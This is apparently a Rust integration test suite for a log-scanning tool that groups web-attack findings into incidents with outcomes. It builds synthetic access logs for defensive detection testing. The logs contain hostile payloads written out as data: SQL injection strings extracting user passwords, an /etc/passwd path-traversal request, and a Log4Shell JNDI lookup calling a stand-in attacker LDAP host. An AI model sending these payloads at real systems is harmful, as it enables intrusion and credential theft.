//! Campaigns of web attacks through the program: findings carry their incident, in one order
//! whatever the number of threads. The last test needs `YAGURA_TESTDATA` (a folder with
//! `web/campaigns.log.xz` and what is true of it).

use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::io::Read as _;
use std::path::{Path, PathBuf};
use std::process::Command;

fn scan(arguments: &[&str], paths: &[PathBuf]) -> String {
    let output = Command::new(env!("CARGO_BIN_EXE_yagura"))
        .arg("scan")
        .args(arguments)
        .args(paths)
        .output()
        .expect("the program runs");
    assert!(output.status.success(), "{:?}", output.status);
    String::from_utf8(output.stdout).expect("UTF-8")
}

fn findings(arguments: &[&str], paths: &[PathBuf]) -> Vec<Value> {
    let arguments = [&["--format", "ndjson"], arguments].concat();
    let lines = scan(&arguments, paths);
    let parse = |line| serde_json::from_str(line).expect("JSON");
    lines.lines().map(parse).collect()
}

/// A line of an access log, `secs` after ten o'clock.
fn line(secs: u32, source: &str, request: &str, status: u16, len: u32) -> String {
    let (minute, second) = (secs / 60 % 60, secs % 60);
    let hour = 10 + secs / 3_600;
    format!(
        "{source} - - [01/Mar/2026:{hour:02}:{minute:02}:{second:02} +0900] \"{request} HTTP/1.1\" {status} {len} \"-\" \"Mozilla/5.0 (X11; Linux x86_64) Browser/150.0\"\n"
    )
}

/// Visitors; one who reads data out of a page; one whose attempts all fail; guessers.
fn log() -> String {
    let mut lines = Vec::new();
    for i in 0..3_000 {
        let visitor = format!("203.0.113.{}", i % 200);
        lines.push((
            i * 2,
            line(i * 2, &visitor, "GET /news?id=7", 200, 5_000 + i % 90),
        ));
    }
    for i in 0..60 {
        let (payload, len) = if i < 45 {
            (format!("7'%20and%20{i}={i}--"), 5_050)
        } else {
            (
                format!("7'%20union%20select%20name,pass%20from%20users--{i}"),
                90_000 + i * 500,
            )
        };
        let request = format!("GET /news?id={payload}");
        lines.push((
            1_000 + i,
            line(1_000 + i, "198.51.100.7", &request, 200, len),
        ));
    }
    for i in 0..40 {
        let request = format!("GET /view?file=..%2f..%2f..%2fetc%2fpasswd%00{i}");
        lines.push((
            3_000 + i,
            line(3_000 + i, "198.51.100.90", &request, 403, 548),
        ));
    }
    for i in 0..200 {
        let source = format!("192.0.2.{}", i % 40);
        let status = if i == 190 { 302 } else { 401 };
        lines.push((
            4_000 + i,
            line(4_000 + i, &source, "POST /login", status, 1_400),
        ));
    }
    lines.sort_by_key(|(secs, _)| *secs);
    lines.into_iter().map(|(_, line)| line).collect()
}

fn write(folder: &Path, name: &str, text: &str) -> PathBuf {
    let path = folder.join(name);
    std::fs::write(&path, text).expect("a file");
    path
}

#[test]
fn findings_carry_their_incident_and_its_outcome() {
    let folder = tempfile::tempdir().expect("a folder");
    let path = write(folder.path(), "access.log", &log());
    let found = findings(&[], &[path]);
    let mut incidents = BTreeMap::<&str, BTreeSet<(String, String)>>::new();
    for finding in &found {
        let Some(id) = finding["incident_id"].as_str() else {
            continue;
        };
        let text = |key: &str| finding[key].as_str().unwrap_or_default().to_owned();
        let rule = text("rule_id");
        let rule = rule
            .strip_prefix("web.campaign.")
            .unwrap_or("rule")
            .to_owned();
        incidents
            .entry(id)
            .or_default()
            .insert((text("outcome"), rule));
    }
    let stories: BTreeSet<Vec<String>> = incidents
        .values()
        .map(|story| {
            story
                .iter()
                .map(|(outcome, rule)| format!("{outcome} {rule}"))
                .collect()
        })
        .collect();
    let expected = [
        vec!["failed rule"],
        vec!["success guessing", "success signed-in"],
        vec!["success rule", "success success"],
    ];
    let expected = expected.map(|story| story.into_iter().map(str::to_owned).collect());
    assert_eq!(stories, BTreeSet::from(expected));
}

#[test]
fn a_connection_of_the_server_to_the_attacker_shows_success() {
    let folder = tempfile::tempdir().expect("a folder");
    let request = "GET /?x=${jndi:ldap://203.0.113.77:1389/a}";
    let log = line(0, "198.51.100.7", request, 200, 900);
    let log = write(folder.path(), "access.log", &log);
    let flow = |to: &str| {
        format!(
            "{{\"timestamp\":\"2026-03-01T10:00:04.000000+0900\",\"event_type\":\"flow\",\"src_ip\":\"10.0.0.5\",\"src_port\":40000,\"dest_ip\":\"{to}\",\"dest_port\":1389,\"proto\":\"TCP\",\"flow\":{{\"pkts_toserver\":4}}}}\n"
        )
    };
    for (to, outcome) in [("203.0.113.77", "success"), ("203.0.113.99", "unknown")] {
        let eve = write(folder.path(), "eve.json", &flow(to));
        for paths in [[&log, &eve], [&eve, &log]] {
            let found = findings(&[], &paths.map(Clone::clone));
            assert!(!found.is_empty());
            for finding in found {
                assert_eq!(finding["outcome"], outcome, "{to}: {finding}");
            }
        }
    }
}

#[test]
fn the_number_of_threads_changes_nothing() {
    let folder = tempfile::tempdir().expect("a folder");
    let mut text = String::new();
    for _ in 0..12 {
        text.push_str(&log()); // more than one block
    }
    let paths = [
        write(folder.path(), "a.log", &text),
        write(folder.path(), "b.log", &log()),
    ];
    for format in ["ndjson", "csv"] {
        let one = scan(&["--format", format, "--threads", "1"], &paths);
        assert!(one.contains("web-"));
        for threads in ["2", "5"] {
            let many = scan(&["--format", format, "--threads", threads], &paths);
            assert!(one == many, "{format} with {threads} threads");
        }
    }
}

#[test]
fn every_row_of_a_table_has_all_columns() {
    let folder = tempfile::tempdir().expect("a folder");
    let path = write(folder.path(), "access.log", &log());
    let table = scan(&["--format", "csv"], &[path]);
    let mut rows = table.split_terminator("\r\n");
    assert!(
        rows.next()
            .is_some_and(|head| head.ends_with(",incident_id,outcome"))
    );
    for row in rows {
        let outcome = row.rsplit(',').next().unwrap_or_default();
        assert!(
            ["success", "failed", "unknown", ""].contains(&outcome),
            "{row}"
        );
    }
}

#[test]
fn people_are_told_what_happened_and_what_could_not_be_seen() {
    let folder = tempfile::tempdir().expect("a folder");
    let path = write(folder.path(), "access.log", &log());
    let text = scan(
        &["--format", "human", "--lang", "en"],
        std::slice::from_ref(&path),
    );
    for words in [
        "Campaigns: 2 succeeded, 0 unknown, 1 failed",
        "SQL injection",
        "/login answered 302 after",
        "What these logs cannot show",
    ] {
        assert!(text.contains(words), "{words}: {text}");
    }
    let page = scan(&["--format", "html", "--lang", "ja"], &[path]);
    assert!(page.contains("\"outcome\":\"success\"") && page.contains("パスワード推測"));
}

#[test]
fn built_in_rules_are_left_out_like_others() {
    let folder = tempfile::tempdir().expect("a folder");
    let path = write(folder.path(), "access.log", &log());
    let found = findings(&["--exclude", "web.campaign.guessing"], &[path]);
    let is = |id: &str| found.iter().any(|f| f["rule_id"] == id);
    assert!(!is("web.campaign.guessing") && is("web.campaign.signed-in"));
}

#[test]
fn a_scan_without_rules_for_web_attacks_follows_no_campaigns() {
    let folder = tempfile::tempdir().expect("a folder");
    let path = write(folder.path(), "access.log", &log());
    let rule = "title: t\nlogsource: {category: webserver}\nlevel: low\ndetection:\n  s: {sc-status: 302}\n  condition: s\n";
    let rule = write(folder.path(), "rule.yml", rule);
    let rule = rule.to_str().expect("UTF-8");
    let found = findings(&["--rules", rule], &[path]);
    assert_eq!(found.len(), 1);
    assert!(found[0].get("incident_id").is_none());
}

#[test]
fn recorded_campaigns_are_told_apart_with_their_outcome() {
    let Some(data) = std::env::var_os("YAGURA_TESTDATA") else {
        println!("skipped: YAGURA_TESTDATA is not set");
        return;
    };
    let data = Path::new(&data).join("web");
    let read = |name: &str| {
        let bytes = std::fs::read(data.join(name)).expect(name);
        String::from_utf8(bytes).expect("UTF-8")
    };
    let truth: BTreeMap<u64, String> = read("campaigns-truth.tsv")
        .lines()
        .filter_map(|row| row.split_once('\t'))
        .filter_map(|(line, campaign)| Some((line.parse().ok()?, campaign.to_owned())))
        .collect();
    let about: Value = serde_json::from_str(&read("campaigns.json")).expect("JSON");
    let mut bytes = Vec::new();
    let file = std::fs::File::open(data.join("campaigns.log.xz")).expect("campaigns.log.xz");
    liblzma::read::XzDecoder::new(file)
        .read_to_end(&mut bytes)
        .expect("campaigns.log.xz");
    let folder = tempfile::tempdir().expect("a folder");
    let path = folder.path().join("campaigns.log");
    std::fs::write(&path, bytes).expect("a file");
    let found = findings(&["--min-level", "medium"], &[path]);

    let mut incidents = BTreeMap::<String, BTreeMap<String, usize>>::new();
    let mut outcomes = BTreeMap::<String, BTreeMap<String, usize>>::new();
    for finding in &found {
        let Some(id) = finding["incident_id"].as_str() else {
            continue;
        };
        let owner = truth.get(&finding["record_id"].as_u64().unwrap_or(0));
        let owner = owner.map_or("background", String::as_str).to_owned();
        let outcome = finding["outcome"].as_str().unwrap_or_default().to_owned();
        *incidents
            .entry(id.to_owned())
            .or_default()
            .entry(owner.clone())
            .or_default() += 1;
        *outcomes
            .entry(owner)
            .or_default()
            .entry(outcome)
            .or_default() += 1;
    }
    incidents.retain(|_, owners| owners.keys().any(|owner| owner != "background"));
    let most: usize = incidents.values().filter_map(|o| o.values().max()).sum();
    let all: usize = incidents.values().flat_map(BTreeMap::values).sum();
    let mut table = format!("{} incidents, purity {most}/{all}\n", incidents.len());
    let campaigns = about.as_array().expect("a list");
    let mut right = 0;
    for campaign in campaigns {
        let (id, truth) = (&campaign["id"], &campaign["outcome"]);
        let (id, truth) = (
            id.as_str().expect("a name"),
            truth.as_str().expect("a word"),
        );
        let told = outcomes.remove(id).unwrap_or_default();
        let is_right = told.len() == 1 && told.contains_key(truth);
        right += usize::from(is_right);
        writeln!(table, "{id} {truth}: {told:?}").expect("a string");
    }
    println!("{table}");
    assert!(incidents.len() * 1_000 <= 15 * truth.len(), "{table}");
    assert!(most * 100 >= all * 95, "{table}");
    assert!(right * 100 >= campaigns.len() * 90, "{table}");
}
